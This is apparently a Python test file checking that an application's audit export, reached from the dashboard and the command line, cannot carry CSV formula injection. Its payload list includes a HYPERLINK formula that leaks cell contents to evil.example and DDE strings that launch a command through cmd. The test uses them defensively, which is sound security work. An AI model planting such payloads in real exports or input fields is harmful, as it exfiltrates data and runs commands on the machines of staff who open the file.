"""What strangers write is exported by staff and opened in a spreadsheet: no cell of any export begins a formula (OWASP,
CSV injection). The only export of ours that a spreadsheet reads is the audit's: by dashboard and command line."""

from __future__ import annotations

import csv
import io

from tests.fixtures.front_door import Installation, Workspace
from tests.fixtures.responding import eventually
from tests.fixtures.staff import signed_in

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    ' "=1+1"',
    '",=1+1,"',
    "'=1+1",
    ";=1+1",
)
_BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n")


def attack(workspace: Workspace) -> None:
    """Writes formulas wherever a stranger's words come near the audit."""
    for formula in FORMULAS:
        for headers in ({"origin": formula.strip()}, {"user-agent": formula.strip()}):
            workspace.post(b'{"email":"a@b.de"}', headers)
            workspace.post(b'{"email":"nobody"}', headers)
        workspace.authenticate({formula: formula}, email=formula, name=formula)
        workspace.authenticate(email="ada@example.com", name=formula, customData={formula[:50]: formula})


def cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > len(FORMULAS)
    assert len({len(row) for row in rows}) == 1, "a value has broken out of its cell"
    return [cell for row in rows for cell in row]


def harmless(text: str) -> None:
    assert not [cell for cell in cells(text) if cell.startswith(_BEGINS)]
    # Some programs cut at other separators as well.
    for separator in (";", "\t"):
        for line in text.splitlines():
            assert not [part for part in line.split(separator)[1:] if part.strip('" ').startswith(("=", "@"))], line


def test_from_the_dashboard(workspace: Workspace) -> None:
    member = signed_in(workspace)
    attack(workspace)
    found = eventually(lambda: text if "HYPERLINK" in (text := member.get("/audit/export").text) else None)
    harmless(found)
    answer = member.get("/audit/export")
    assert answer.headers["content-disposition"].startswith("attachment")
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_from_the_command_line(workspace: Workspace, installation: Installation) -> None:
    attack(workspace)

    def export() -> str | None:
        printed = installation.command("audit", "export", "-w", workspace.id, "--format", "csv")
        assert printed.exit_code == 0, printed
        return printed.stdout if "HYPERLINK" in printed.stdout else None

    harmless(eventually(export))
